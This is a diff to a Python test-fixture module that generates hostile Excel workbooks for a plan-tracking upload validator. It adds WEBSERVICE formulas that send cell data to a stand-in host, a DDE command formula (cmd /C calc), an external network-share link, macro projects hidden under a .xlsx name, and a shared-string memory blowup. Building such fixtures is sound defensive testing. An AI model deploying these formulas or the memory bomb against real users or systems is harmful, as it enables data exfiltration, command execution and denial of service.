@@ -345,6 +345,32 @@ def _xlsm_macros() -> bytes:
     return PlanRows().workbook(macros=True)
 
 
+def _outward_formulas() -> bytes:
+    # Formulas that reach outside the workbook when Excel opens it (each with a cached value, the
+    # evidence of the first four follow-up rows), and an external link part to a network share.
+    outward = [Formula('_xlfn.WEBSERVICE("http://ejemplo.invalid/robo?d="&A1)', "Actas", ' t="str"'),
+               Formula('FILTERXML(_xlfn.WEBSERVICE("http://ejemplo.invalid/x"),"//a")', "Actas", ' t="str"'),
+               Formula("cmd|' /C calc'!A0", "Actas", ' t="str"'),
+               Formula("[1]Hoja1!A1", "Actas", ' t="str"')]
+    plan = PlanRows(n=8)
+    rows = [SEGUIMIENTO_HEADERS]
+    for k in range(plan.n):
+        for corte, avance in plan.reports(k):
+            evidence = outward[len(rows) - 1] if len(rows) <= len(outward) else "Actas"
+            rows.append([plan.ident(k), plan.text(k), corte, avance, "En ejecución", evidence, ""])
+    follow_up = SheetSpec("Seguimiento", sheet_xml(rows_xml(rows, styles={(r, 3): PERCENT for r in range(2, len(rows) + 1)})))
+    link = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink {_NS} {_NS_R}>'
+            '<externalBook r:id="rId1"><sheetNames><sheetName val="Hoja1"/></sheetNames></externalBook>'
+            '</externalLink>')
+    link_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+                 '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                 f'<Relationship Id="rId1" Type="{_REL}/externalLinkPath" '
+                 'Target="file://servidor/compartido/metas.xlsx" TargetMode="External"/></Relationships>')
+    return xlsx([plan.plan_sheet(), follow_up, plan.parameters_sheet()],
+                extra={"xl/externalLinks/externalLink1.xml": link,
+                       "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels})
+
+
 def _nul_escaped() -> bytes:
     # Excel writes control characters as _xHHHH_ escapes; NUL, BEL, ESC and DEL in names and IDs.
     plan = PlanRows(ident=lambda k: f"{k % 4 + 1}.{k // 4 + 1}_x0000_",
@@ -568,6 +594,35 @@ def _unmatched_follow_up() -> bytes:
     return xlsx([plan.plan_sheet(), SheetSpec("Seguimiento", sheet_xml(rows_xml(rows)))])
 
 
+def _numbers_60000_by_120() -> bytes:
+    # Issue 11: 6 MB, 60,000 rows × 120 numeric cells (7.2 million cells), within the size limits.
+    import random
+
+    rng = random.Random(6)
+    values = [f"<c><v>{v}</v></c>" for v in range(12)]
+    pool = ["<row>" + "".join(rng.choices(values, k=120)) + "</row>" for _ in range(2000)]
+    return xlsx([SheetSpec("Plan", sheet_xml("".join(rng.choices(pool, k=60_000))))])
+
+
+def _activities_60000() -> bytes:
+    # Issue 11: 9 MB, 60,000 activities with their schedule (thirty times the largest real plan).
+    import random
+
+    rng = random.Random(9)
+    words = ["".join(rng.choices("abcdefghijklmnopqrstuvwxyzáéíóúñ", k=rng.randrange(3, 11))) for _ in range(20_000)]
+    texts = [" ".join(rng.choices(words, k=rng.randrange(16, 30))).capitalize() for _ in range(60_000)]
+    plan = PlanRows(n=60_000, text=texts.__getitem__, reports=lambda k: [])
+    return xlsx([plan.plan_sheet()])
+
+
+def _largest_real_plan() -> bytes:
+    # A department's 2,000 activities and three years of follow-up (nine PAAC cuts): must be read.
+    cuts = [date(year, month, day) for year in (2018, 2019, 2020) for month, day in ((4, 30), (8, 31), (12, 31))]
+    plan = PlanRows(n=2000, text=lambda k: f"Publicar el informe de gestión número {k} en la página web institucional",
+                    reports=lambda k: [(cut, round((i + 1) / 9, 2)) for i, cut in enumerate(cuts)])
+    return plan.workbook()
+
+
 def _rels_outside() -> bytes:
     # The workbook's relationships point outside the package and to a missing part.
     data = PlanRows().workbook()
@@ -629,7 +684,11 @@ HOSTILE: list[Hostile] = [
     Hostile("seguimiento_muy_oculto", "el seguimiento en una hoja «muy oculta» (veryHidden)", "plan",
             _very_hidden_follow_up),
     Hostile("imagenes", "veinte imágenes incrustadas en la hoja del plan", "plan", _images),
-    Hostile("macros_xlsm", "un .xlsm con un proyecto de macros (falso)", "plan", _xlsm_macros, ".xlsm"),
+    Hostile("macros_xlsm", "un .xlsm con un proyecto de macros (falso)", "rechazo", _xlsm_macros, ".xlsm"),
+    Hostile("macros_con_extension_xlsx", "un proyecto de macros dentro de un archivo llamado .xlsx", "rechazo",
+            _xlsm_macros),
+    Hostile("formulas_hacia_afuera", "WEBSERVICE, FILTERXML, DDE (=cmd|…) y un vínculo externo a otro libro",
+            "plan", _outward_formulas),
     Hostile("nul_escapado", "caracteres NUL y de control escritos como _x0000_ en nombres e ID", "plan",
             _nul_escaped),
     Hostile("nul_crudo", "bytes NUL y de control dentro del XML (calamine los tolera; se limpian)", "cualquiera",
@@ -672,6 +731,11 @@ HOSTILE: list[Hostile] = [
     Hostile("id_repetidos_10000", "10.000 actividades con el mismo ID", "rechazo", _duplicate_ids_massive),
     Hostile("seguimiento_sin_coincidencias", "20.000 reportes que nombran actividades inexistentes", "rechazo",
             _unmatched_follow_up),
+    Hostile("numeros_60000x120", "6 MB: 60.000 filas × 120 celdas numéricas (7,2 millones de celdas)", "rechazo",
+            _numbers_60000_by_120),
+    Hostile("actividades_60000", "9 MB: 60.000 actividades con su cronograma", "rechazo", _activities_60000),
+    Hostile("plan_real_mas_grande", "2.000 actividades y tres años de seguimiento (18.000 reportes)", "plan",
+            _largest_real_plan),
     Hostile("relaciones_fuera_del_paquete", "relaciones que apuntan fuera del libro y a partes inexistentes",
             "cualquiera", _rels_outside),
     Hostile("solo_hoja_de_grafico", "un libro con solo una hoja de gráfico", "rechazo", _chart_sheet_only),
@@ -681,6 +745,33 @@ HOSTILE: list[Hostile] = [
 ]
 
 BY_NAME = {item.name: item for item in HOSTILE}
+
+
+def at_the_cell_limits() -> bytes:
+    """2,000 activities and two follow-up sheets of 34,000 reports each: just under both cell limits
+    of the guard (250,000 per sheet, 500,000 in all), the most a workbook within the limits holds."""
+    cuts = [date(2018, 4, 30), date(2018, 8, 31), date(2018, 12, 31)]
+    plan = PlanRows(n=2000, reports=lambda k: ([(cut, (i + 1) / 3) for i, cut in enumerate(cuts)] * 6)[:17])
+    return xlsx([plan.plan_sheet(), plan.follow_up_sheet(), plan.follow_up_sheet("Seguimiento 2"),
+                 plan.parameters_sheet()])
+
+
+def shared_text_blowup(chars: int = 32_000, cells: int = 200_000) -> bytes:
+    """0.4 MB within every limit of the guard that a parser turns into gigabytes: one shared text of
+    ``chars`` characters referenced by ``cells`` cells (calamine copies the text into each cell).
+
+    Not in :data:`HOSTILE`: read in-process it exhausts memory, which only the isolated validation
+    (:mod:`rendicion.sandbox`) can stop; the sandbox and browser tests use it."""
+    import random
+
+    rng = random.Random(3)
+    text = "".join(rng.choices("abcdefghijklmnopqrstuvwxyz ", k=chars))
+    shared = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+              f'<sst {_NS} count="{cells}" uniqueCount="1"><si><t>{text}</t></si></sst>')
+    rows = "".join(f'<row r="{r}">' + "".join(f'<c r="{c}{r}" t="s"><v>0</v></c>' for c in "ABCDEFGHIJ") + "</row>"
+                   for r in range(1, cells // 10 + 1))
+    plan = PlanRows()
+    return xlsx([plan.plan_sheet(), SheetSpec("Notas", sheet_xml(rows))], shared_strings=shared)
 
 
 def write_all(folder: str | Path) -> list[Path]:
